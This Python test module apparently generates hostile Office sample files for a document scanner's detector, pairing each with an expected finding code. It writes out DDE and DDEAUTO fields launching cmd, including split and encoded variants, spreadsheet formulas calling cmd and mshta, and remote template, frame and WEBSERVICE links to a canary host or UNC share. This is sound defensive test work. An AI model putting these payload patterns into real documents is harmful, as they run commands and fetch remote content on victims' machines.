"""C10: papers that run, call, fetch or carry something."""

from collections.abc import Iterator

from tests.hostile import pdfs
from tests.hostile.papers import WORD_MAIN as WORD
from tests.hostile.papers import (
    Link,
    Made,
    docx,
    paragraph,
    rels,
    types,
    xlsx,
)


def files(canary: str) -> Iterator[Made]:
    """(name, bytes, code) of each; ``canary`` is an address that nobody may call."""
    yield from _carried()
    yield from _linked(canary)
    yield from _fields(canary)
    yield from _sheets(canary)
    yield from pdfs.files()


def _carried() -> Iterator[Made]:
    """Things with names of their own in the archive."""
    for member, code in {
        "word/vbaProject.bin": "file.macros",
        "word/vbaData.xml": "file.macros",
        "word/VBAPROJECT.BIN": "file.macros",
        "word/activeX/activeX1.xml": "file.activex",
        "word/activeX/activeX1.bin": "file.activex",
        "word/embeddings/oleObject1.bin": "file.embedded",
        "word/embeddings/sheet.xlsx": "file.embedded",
        "word/media/setup.exe": "file.embedded",
        "word/media/run.js": "file.embedded",
        "word/a.lnk": "file.embedded",
        "word/paper.pdf": "file.embedded",
        "word/afchunk.html": "file.embedded",
    }.items():
        name = member.lower().replace("/", "-").replace(".", "-")
        yield f"{name}.docx", docx(more={member: b"<x/>"}), code
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    typed = types({"word/document.xml": enabled})
    yield "typed-macros.docx", docx(more={"[Content_Types].xml": typed}), "file.macros"
    project = types(
        {
            "word/document.xml": WORD,
            "word/x.bin": "application/vnd.ms-office.vbaProject",
        }
    )
    hidden: dict[str, str | bytes] = {"word/x.bin": b"x"}
    hidden["[Content_Types].xml"] = project
    yield "macros-renamed.docx", docx(more=hidden), "file.macros"
    yield "named-docm.docm", docx(), "file.macros"
    yield "named-xlsm.xlsm", xlsx(), "file.macros"


def _linked(canary: str) -> Iterator[Made]:
    """Things that a link of the paper names."""
    by_address = ("attachedTemplate", f"{canary}/t.dotm", "External")
    by_share = ("attachedTemplate", r"\\10.0.0.1\t\t.dotm", "External")
    by_file = ("attachedTemplate", "file://10.0.0.1/t.dotm", "External")
    links: dict[str, tuple[Link, str]] = {
        "template-by-address": (by_address, "file.remote"),
        "template-by-share": (by_share, "file.remote"),
        "template-by-file-share": (by_file, "file.remote"),
        "template-not-marked": (by_address[:2], "file.remote"),
        "ole": (("oleObject", "a.bin"), "file.embedded"),
        "ole-by-address": (("oleObject", f"{canary}/a", "External"), "file.embedded"),
        "package": (("package", "a.bin"), "file.embedded"),
        "control": (("control", "a.xml"), "file.activex"),
        "chunk": (("aFChunk", "a.mht"), "file.altchunk"),
        "frame": (("frame", f"{canary}/f", "External"), "file.remote"),
        "subdocument": (("subDocument", "b.docx", "External"), "file.remote"),
        "font": (("font", f"{canary}/f.ttf", "External"), "file.remote"),
        "script": (("hyperlink", "javascript:alert(1)", "External"), "file.remote"),
        "vba": (("vbaProject", "a.bin"), "file.macros"),
        "unknown-outside": (("anything", "b.xml", "External"), "file.remote"),
    }  # fmt: skip
    for name, (link, code) in links.items():
        yield f"{name}.docx", docx(links=(link,)), code
    settings = {
        "word/settings.xml": "<x/>",
        "word/_rels/settings.xml.rels": rels(by_address),
    }
    yield "template-in-settings.docx", docx(more=settings), "file.remote"


END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _fields(canary: str) -> Iterator[Made]:
    """Fields, whole, in pieces, and disguised."""

    def marks(*pieces: str) -> str:
        said = "".join(
            f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces
        )
        return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}{END}</w:p>'

    quoted = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + marks(" QUOTE 68 68 69 65 85 84 79 ")
        .removeprefix("<w:p>")
        .removesuffix("</w:p>")
        + "<w:r><w:instrText> c:/x.exe</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    for name, body in {
        "dde": marks(" DDE cmd calc "),
        "ddeauto": marks(" DDEAUTO c:/windows/system32/cmd.exe '/k calc' "),
        "dde-in-pieces": marks("D", "DE", "AUTO", " cmd"),
        "dde-small-letters": marks(" ddeauto cmd "),
        "dde-simple": '<w:fldSimple w:instr="DDEAUTO cmd"/>',
        "dde-never-closed": marks(" DDE cmd ").replace(END, ""),
        "dde-in-numbers": quoted,
        "dde-in-box": f"<w:r><w:txbxContent>{marks('DDE a')}</w:txbxContent></w:r>",
    }.items():  # fmt: skip
        yield f"{name}.docx", docx(body), "file.dde"
    header = docx(more={"word/header9.xml": _header(marks("DDE cmd"))})
    yield "dde-in-a-header-nobody-names.docx", header, "file.dde"
    taken = marks(f' INCLUDETEXT "{canary}/x.docx" ')
    yield "include-text.docx", docx(taken), "file.remote"
    chunk = docx(paragraph("a") + '<w:altChunk r:id="rId9"/>')
    yield "chunk-without-link.docx", chunk, "file.altchunk"


def _header(body: str) -> str:
    return (
        '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"{body}</w:hdr>"
    )


def _sheets(canary: str) -> Iterator[Made]:
    def formula(said: str) -> str:
        return f'<row r="1"><c r="A1"><f>{said}</f><v>0</v></c></row>'

    for name, said in {
        "dde": "cmd|'/C calc'!A0",
        "dde-mshta": "MSEXCEL|'..\\..\\mshta.exe'!A1",
        "webservice": f'WEBSERVICE("{canary}/x")',
        "rtd": 'RTD("prog.id",,"a")',
    }.items():
        yield f"{name}.xlsx", xlsx(formula(said)), "file.dde"
    outside = "xl/externalLinks/externalLink1.xml"
    dde = '<externalLink xmlns="x"><ddeLink ddeService="cmd"/></externalLink>'
    yield "dde-link.xlsx", xlsx(more={outside: dde}), "file.dde"
    book = '<externalLink xmlns="x"><externalBook/></externalLink>'
    yield "other-book.xlsx", xlsx(more={outside: book}), "file.remote"
    yield "connections.xlsx", xlsx(more={"xl/connections.xml": "<x/>"}), "file.remote"
    yield (
        "query.xlsx",
        xlsx(more={"xl/queryTables/queryTable1.xml": "<x/>"}),
        "file.remote",
    )
    yield (
        "macro-sheet.xlsx",
        xlsx(more={"xl/macrosheets/sheet1.xml": "<x/>"}),
        "file.macros",
    )
    yield "macros.xlsx", xlsx(more={"xl/vbaProject.bin": b"x"}), "file.macros"
    links: tuple[Link, ...] = (("connections", "c.xml"),)
    yield "linked-connection.xlsx", xlsx(links=links), "file.remote"
    binary = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    typed = types({"xl/workbook.xml": binary})
    yield "typed-macros.xlsx", xlsx(more={"[Content_Types].xml": typed}), "file.macros"
